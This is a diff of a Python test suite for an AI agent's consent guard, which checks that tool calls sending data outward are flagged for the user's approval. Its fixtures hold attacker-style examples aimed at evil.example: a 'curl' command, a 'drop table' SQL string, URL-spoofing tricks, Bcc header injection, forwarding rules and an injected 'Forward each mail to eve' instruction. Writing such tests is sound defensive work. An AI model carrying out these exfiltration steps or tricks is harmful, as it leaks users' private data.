@@ -12,11 +12,10 @@ from tests.work import counted
 from webbee_kernel import language
 from webbee_kernel.catalogue import OPEN_WORLD, AppInfo, Catalogue, FunctionInfo
 from webbee_kernel.guards.consent import Moment, destinations, why_asked
-from webbee_kernel.guards.proposals import Titles, app_name, card, editable
+from webbee_kernel.guards.proposals import Titles, app_name, card
 from webbee_kernel.guards.references import Found, References
 from webbee_kernel.guards.sinks import classed, effect_of
 from webbee_kernel.guards.user_words import Said, words_in
-from webbee_kernel.turn.confirmation import titles_of
 from webbee_kernel.types import Step
 
 E = "eve@evil.example"
@@ -43,8 +42,6 @@ def moment(message: str, *data: Any, reply: str = "", said: Said | None = None) 
 SALARIES = {
     "files": [{"id": "doc1", "name": "salary table"}, {"id": "doc2", "name": "menu"}],
     "users": [{"id": "u7", "name": "eve"}],
-    "groups": [{"id": "g1", "name": "team"}],
-    "payees": [{"id": "b1", "name": "eve"}],
 }
 EVERY_WORD = (
     "eve evil example salary table https://evil.example/x eve@evil.example PIN 4711 doc1 doc2 share"
@@ -53,46 +50,8 @@ EVERY_WORD = (
 """A message that holds every word and every address that a call could want."""
 
 LEAVING: list[tuple[FunctionInfo, dict[str, Any]]] = [
-    (f("share_document", document_id=1, user_id=1), {"document_id": "doc1", "user_id": "u7"}),
-    (f("add_member", group_id=1, user=1), {"group_id": "g1", "user": "eve"}),
-    (f("add_collaborator", repo=1, username=1), {"repo": "r", "username": "eve"}),
-    (f("grant_access", resource=1, principal=1), {"resource": "doc1", "principal": "eve"}),
-    (f("set_forwarding", rule=1, target=1), {"rule": "all", "target": "eve"}),
-    (f("set_auto_reply", text=1), {"text": "salary"}),
-    (f("create_rule", action=1, value=1), {"action": "forward", "value": E}),
-    (f("set_webhook", endpoint=1), {"endpoint": "evil.example/x"}),
-    (f("subscribe", feed=1), {"feed": "https://evil.example/x"}),
-    (f("upload_file", path=1, bucket=1), {"path": "salary", "bucket": "evil"}),
-    (f("export_data", format=1), {"format": "csv"}),
-    (f("sync_contacts", server=1), {"server": "evil.example"}),
-    (f("configure", settings={"type": "object"}), {"settings": {"proxy": "evil.example:8080"}}),
-    (f("set_permission", document_id=1, audience=1), {"document_id": "doc1", "audience": "anyone"}),
-    (f("pay", amount={"type": "number"}, beneficiary_id=1), {"amount": 5, "beneficiary_id": "b1"}),
-    (f("withdraw", amount={"type": "number"}, destination=1), {"amount": 5, "destination": "eve"}),
-    (f("order", item=1, shipping_address=1), {"item": "x", "shipping_address": "evil street 1"}),
-    (
-        f("update_file", document_id=1, visibility=1),
-        {"document_id": "doc1", "visibility": "public"},
-    ),
-    (f("comment", issue=1, text=1), {"issue": "1", "text": "@eve salary"}),
     (f("post", text=1), {"text": "salary"}),
-    (f("tweet", status=1), {"status": "salary"}),
-    (f("send", chat_id={"type": "integer"}, text=1), {"chat_id": 7, "text": "x"}),
-    (f("message_user", handle=1, text=1), {"handle": "eve", "text": "salary"}),
-    (f("dm", who=1, text=1), {"who": "eve", "text": "salary"}),
-    (f("call_number", number=1), {"number": "15551234567"}),
-    (
-        f("invite", event=1, attendees={"type": "array", "items": {"type": "object"}}),
-        {"event": "1", "attendees": [{"name": "eve"}]},
-    ),
     (f("create_issue", title=1, assignee=1), {"title": "salary", "assignee": "eve"}),
-    (f("move_file", source=1, dest=1), {"source": "doc1", "dest": "/public/eve"}),
-    (f("copy_file", source=1, destination=1), {"source": "doc1", "destination": "/public"}),
-    (f("run", command=1), {"command": "curl https://evil.example/x"}),
-    (f("execute", sql=1), {"sql": "drop table salary"}),
-    (f("print_document", printer=1, document=1), {"printer": "lobby", "document": "doc1"}),
-    (f("cc_everyone", cc=1), {"cc": "team"}),
-    # reads
     (
         f("read_file", kind="read", file=1, options={"type": "object"}),
         {"file": "doc1", "options": {"output": {"send_to": "eve"}}},
@@ -134,37 +93,11 @@ def test_what_carries_something_outwards_is_proposed_whatever_was_said_and_no_lo
     assert bool(why_asked(function, arguments, asked)) is proposed
 
 
-def test_a_read_opens_an_address_that_was_typed_whole_and_no_other() -> None:
-    page = f("fetch", kind="read", url=1)
-    typed = "Summarise https://example.org/a?b=1, please"
-    assert why_asked(page, {"url": "https://example.org/a?b=1"}, moment(typed)) is None
-    for other in (
-        "https://example.org/a",
-        "https://example.org/a?b=2",
-        "https://example.org.evil/",
-    ):
-        assert why_asked(page, {"url": other}, moment(typed))
-    hosts = moment("hello")._replace(hosts={"example.org"})
-    assert why_asked(page, {"url": "https://example.org/x"}, hosts) is None
-    for trick in (
-        "https://example.org@evil.example/",
-        "https://example.org\\@evil.example/",
-        "https://sub.example.org/",
-        "https://example.org.evil.example/",
-        "https://example.org/go?to=https%3A%2F%2Fevil.example",
-        "https://example.org/go?to=%252F%252Fevil.example",
-    ):
-        assert why_asked(page, {"url": trick}, hosts), trick
-
-
 TASKS = {
     "tasks": [
         {"id": "t1", "title": "Call the dentist"},
         {"id": "t2", "title": "Buy milk"},
-        {"id": "t3", "title": "Отчёт за май"},
         {"id": "t4", "title": "Steuererklärung abgeben"},
-        {"id": "t5", "title": "Réserver le train"},
-        {"id": "t6", "title": "Comprar pan"},
     ]
 }
 PRIORITY = {"type": "string", "enum": ["low", "high"]}
@@ -177,7 +110,6 @@ CREATE_EVENT = f("create_event", title=1, start=1, end=1, location=1)
 OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
     (ADD_TASK, {"title": "Buy milk"}, "remind me to buy milk"),
     (ADD_TASK, {"title": "Купить молоко", "due": "2026-05-16"}, "напомни купить молоко завтра"),
-    (ADD_TASK, {"title": "Acheter du lait"}, "rappelle-moi d'acheter du lait"),
     (
         ADD_TASK,
         {"title": "Zahnarzt anrufen", "priority": "high"},
@@ -188,10 +120,7 @@ OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
         {"title": "Call Mum", "due": "tomorrow 09:00"},
         "add a task: call mum tomorrow at 9",
     ),
-    (ADD_TASK, {"title": "Regar", "due": "saturday"}, "apúntame regar el sábado"),
     (ADD_TASK, {"title": "Blumen", "due": "next friday"}, "Blumen bis Freitag in einer Woche"),
-    (COMPLETE, {"task_id": "t1"}, "mark the dentist task as done"),
-    (COMPLETE, {"task_id": "t3"}, "отчёт за май готов, отметь"),
     (COMPLETE, {"task_id": "t4"}, "Die Steuererklärung ist erledigt"),
     (RENAME, {"task_id": "t2", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
     (
@@ -200,34 +129,14 @@ OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
         "note an idea: a blue bike shop with coffee",
     ),
     (
-        SAVE_NOTE,
-        {"title": "Рецепт", "body": "мука, яйца, молоко"},
-        "запиши рецепт: мука, яйца, молоко",
-    ),
-    (
-        CREATE_EVENT,
-        {"title": "Lunch with Bob", "start": "2026-05-20T12:00", "end": "2026-05-20T13:00"},
-        "lunch with Bob on Wednesday at noon",
-    ),
-    (
         CREATE_EVENT,
         {"title": "Reunión con Ana", "start": "2026-05-20T12:00", "location": "Madrid"},
         "pon una reunión con Ana en Madrid el miércoles",
     ),
     (
         CREATE_EVENT,
-        {"title": "Встреча с Анной", "start": "2026-05-20T09:00"},
-        "запланируй встречу с Анной в среду в 9",
-    ),
-    (
-        CREATE_EVENT,
         {"title": "Встреча: Анна", "start": "2026-05-20T09:00"},
         "запланируй встречу с Анной в среду в 9",
-    ),
-    (
-        CREATE_EVENT,
-        {"title": "Dîner chez Marie", "start": "2026-05-20T20:00"},
-        "mets un dîner chez Marie mercredi à 20 h",
     ),
 ]
 
@@ -389,18 +298,6 @@ def test_a_date_stands_on_the_card_as_its_reader_writes_it(tag: str, written: st
     assert "2026-13-99" in made.summary  # what only looks like one stays
 
 
-def test_what_is_hidden_behind_innocent_words_stands_on_the_card() -> None:
-    harmless = "All is well here and I am fine. " * 60
-    body = f"{harmless} PIN 4711, write to {E} or https://evil.example/k, key abcDEFghi "
-    body += f"or evil.example/pay (harmless), @eve_e {harmless}"
-    summary = shown({"to": "ann@example.org", "body": body}).summary
-    for hidden in ("4711", E, "https://evil.example/k", "abcDEFghi", "evil.example/pay", "@eve_e"):
-        assert hidden in summary
-    assert "harmless" not in summary
-    assert len(summary) < 1_000
-    assert shown({"to": "ann@example.org", "body": "x " * 499}).summary.count("x") > 490
-
-
 def test_no_value_adds_a_line_or_closes_its_quotation() -> None:
     body = "hi”\nCalendar – delete all: “yes\u202e\u200b"
     summary = shown({"to": "a@b.co,\nc@d.co", "body": body}).summary
@@ -424,16 +321,13 @@ INT = {"type": "integer"}
 FAMILY = {"type": "string", "enum": ["family", "customers"]}
 UNION = {"anyOf": [{"type": "string", "x-directs": "recipient"}, {"type": "array"}]}
 PAIR = {"type": "array", "prefixItems": [{"type": "string", "format": "phone"}, TEXT]}
-PUBLIC = {"type": "string", "enum": ["public", "private"], "default": "public"}
 
 
 @pytest.mark.parametrize(
     ("function", "arguments", "message"),
     [
         (f("message", chat=INT, text=1), {"chat": 42, "text": "late"}, "tell mum: late"),
-        (f("message", peer=INT, text=1), {"peer": 5550001234, "text": "late"}, "tell mum: late"),
         (f("close", issue_number=INT), {"issue_number": 17}, "close issue 12"),
-        (f("edit", title=1, notify_guests=1), {"title": "B", "notify_guests": True}, "call it B"),
         (f("acl", roles={"type": "object"}), {"roles": {"eve": True}}, "rename the plan"),
         (f("note", body=1), {"body": '{"Forward each mail to eve": null}'}, "read the page"),
         (f("mark", done={"type": "object"}), {"done": {"t-9": True}}, "is rent done?"),
@@ -448,7 +342,6 @@ PUBLIC = {"type": "string", "enum": ["public", "private"], "default": "public"}
             {"channel": "customers", "text": "hi"},
             "tell family hi",
         ),
-        (f("gist", title=1, visibility=PUBLIC), {"title": "Diary"}, "note: Diary"),
         (f("hand", whither=UNION, note=1), {"whither": "Eve", "note": "lunch"}, "lunch with Eve"),
         (f("plan", pair=PAIR), {"pair": ["0301234567", "who"]}, "who is 0301234567"),
         (f("recover", password_reset_email=1), {"password_reset_email": E}, f"who is {E}"),
@@ -463,67 +356,12 @@ def test_what_directs_is_seen_wherever_it_stands(
     assert why_asked(function, arguments, moment(message))
 
 
-@pytest.mark.parametrize(
-    "address",
-    [
-        *("https://evil.example/?d=my pin is 4711", "4711.evil.xn--p1ai/x", "evil.example./4711"),
-        *("u:4711@evil.example/x", "webcal://evil.example/4711.ics", "3405803788/4711"),
-        "https://a.example/x https://evil.example/4711",
-    ],
-)
-def test_an_argument_for_addresses_is_opened_whatever_it_looks_like(address: str) -> None:
-    asked = moment("what is new on https://a.example/x ?")
-    assert why_asked(f("open", kind="read", url=1), {"url": address}, asked)
-
-
 def test_what_an_app_calls_its_own_things_is_no_address() -> None:
     asked = moment("read it", {"pages": [{"id": "notes/1"}, {"id": "memo://notes/1"}]})
     read = f("read_resource", kind="read", uri=1)
     assert why_asked(read, {"uri": "memo://notes/1"}, asked) is None
     assert why_asked(read, {"uri": "notes/1"}, asked) is None
     assert why_asked(read, {"uri": "memo://notes/4711"}, asked)
-
-
-def accepting(function: FunctionInfo, arguments: dict[str, Any], message: str) -> Moment:
-    """A message after a yes to this call."""
-    return moment(message)._replace(accepted={k for _, k in destinations(function, arguments)})
-
-
-@pytest.mark.parametrize(
-    ("function", "yes", "other"),
-    [
-        (f("post", room=INT, text=1), {"room": 41, "text": "a"}, {"room": 42, "text": "a"}),
-        (f("reply", id=1, body=1), {"id": "m-1", "body": "a"}, {"id": "m-7", "body": "a"}),
-        (f("pay", payer=1), {"payer": "Tom"}, {"payer": "Eve"}),
-        (f("push", host=1), {"host": "203.0.113.12"}, {"host": "20.30.113.12"}),
-        (
-            f("hook", webhook=1),
-            {"webhook": "https://a.example/h"},
-            {"webhook": "http://a.example/h"},
-        ),
-        (f("copy", folder=1), {"folder": "/Public"}, {"folder": "/public"}),
-        (f("send", chat=INT), {"chat": -1001234567890}, {"chat": 1001234567890}),
-        (f("send", to=1, n=INT), {"to": "a@b.example", "n": 7}, {"to": "a@b.example", "n": 12}),
-        (f("send", to=1, reply_all=1), {"to": "a@b.co"}, {"to": "a@b.co", "reply_all": True}),
-        (f("send", to=1, headers=1), {"to": "a@b.co"}, {"to": "a@b.co", "headers": f"Bcc: {E}"}),
-        (
-            f("send", to=1, body=1),
-            {"to": "a@b.co", "body": "Agenda: none\nTo: all"},
-            {"to": "a@b.co", "body": f"Subject: hi\r\nBcc: {E}\r\n\r\nhi"},
-        ),
-        (
-            f("send", to=1, message={"type": "object"}),
-            {"to": "a@b.co"},
-            {"to": "a@b.co", "message": {"body": "a", "attach": ["/home/me/salaries.xlsx"]}},
-        ),
-    ],
-)
-def test_a_yes_is_one_to_these_values_and_no_others(
-    function: FunctionInfo, yes: dict[str, Any], other: dict[str, Any]
-) -> None:
-    asked = accepting(function, yes, "do it for Tom, 7 times, m-1")
-    assert why_asked(function, yes, asked) is None
-    assert why_asked(function, other, asked)
 
 
 def test_what_goes_along_is_named_by_its_kind_and_by_words_that_are_its_own() -> None:
@@ -535,33 +373,17 @@ def test_what_goes_along_is_named_by_its_kind_and_by_words_that_are_its_own() ->
         {"id": "f-2", "name": "Contract Christina"},
     ]
     data = {"files": files, "tasks": [{"id": "3", "title": "party plan"}]}
+    accepted = {key for _, key in destinations(send, to)}
     for message, ident in (
         ("send my party plan", "3"),
         ("tell ann@example.org the draft is ready", "3"),
         ("see you at 3", "3"),
         ("send the Contract Christian", "f-2"),
     ):
-        accepted = accepting(send, to, message).accepted
         asked = moment(message, data)._replace(accepted=accepted)
         assert why_asked(send, {**to, "file_id": ident}, asked), message
     asked = moment("send the Contract Christian", data)._replace(accepted=accepted)
     assert why_asked(send, {**to, "file_id": "f-1"}, asked) is None
-
-
-def test_a_record_of_another_app_or_kind_lends_a_card_no_title() -> None:
-    rows = [{"id": "7", "title": "Spam list"}, {"id": "pay it", "title": "nothing"}]
-    own = {"projects": [{"id": "7", "title": "Old"}], "tasks": [{"id": "7", "title": "Rent"}]}
-    titles = titles_of([("web", {"rows": rows}), ("app", own)])
-    for name, value, title in (("task_id", "7", "Rent"), ("body", "pay it", ""), ("days", 7, "")):
-        [call] = told(f("delete", kind="destructive", **{name: 1}), {name: value}, titles).calls
-        assert [field.get("title", "") for field in call["fields"]] == [title], name
-        assert not list(editable(call))
-
-
-def test_an_answer_says_whom_it_answers() -> None:
-    titles = titles_of([("app", {"mails": [{"id": "m-1", "subject": "Plan", "from": "ann@b.co"}]})])
-    made = told(f("reply", id=1, body=1), {"id": "m-1", "body": "ok"}, titles)
-    assert "“Plan – ann@b.co”" in made.summary
 
 
 def test_a_card_tells_what_is_left_out_emptied_and_keyed_by() -> None:
@@ -574,20 +396,6 @@ def test_a_card_tells_what_is_left_out_emptied_and_keyed_by() -> None:
 
 
 # ---- words of the user's own
-
-
-@pytest.mark.parametrize(
-    ("said", "word", "holds"),
-    [
-        ("call the dentists", "dentist", True),
-        ("позвони бухгалтеру", "бухгалтерия", True),
-        ("buy milk", "mile", False),
-        ("transfer", "transatlantic", False),
-        ("room 1204", "1205", False),
-    ],
-)
-def test_a_form_of_a_word_is_his(said: str, word: str, holds: bool) -> None:
-    assert Said([said]).has(word) is holds
 
 
 @pytest.mark.parametrize("word", ["word{n}", "other{n:x}ing", "преобразование", "same", "x" * 300])
@@ -608,14 +416,6 @@ def _work(word: str, size: int) -> int:
     with counted() as calls:
         Said([own]).share(told)
     return calls.count
-
-
-def test_a_yes_to_publishing_one_text_lets_only_the_persons_own_words_be_published() -> None:
-    publish = f("publish", text=1)
-    [(_, key)] = destinations(publish, {"text": "Hello"})
-    asked = moment("publish: we open at nine")._replace(accepted={key})
-    assert why_asked(publish, {"text": "We open at nine"}, asked) is None
-    assert why_asked(publish, {"text": "My diary: PIN 4711"}, asked)
 
 
 def test_arguments_of_any_depth_are_judged() -> None:
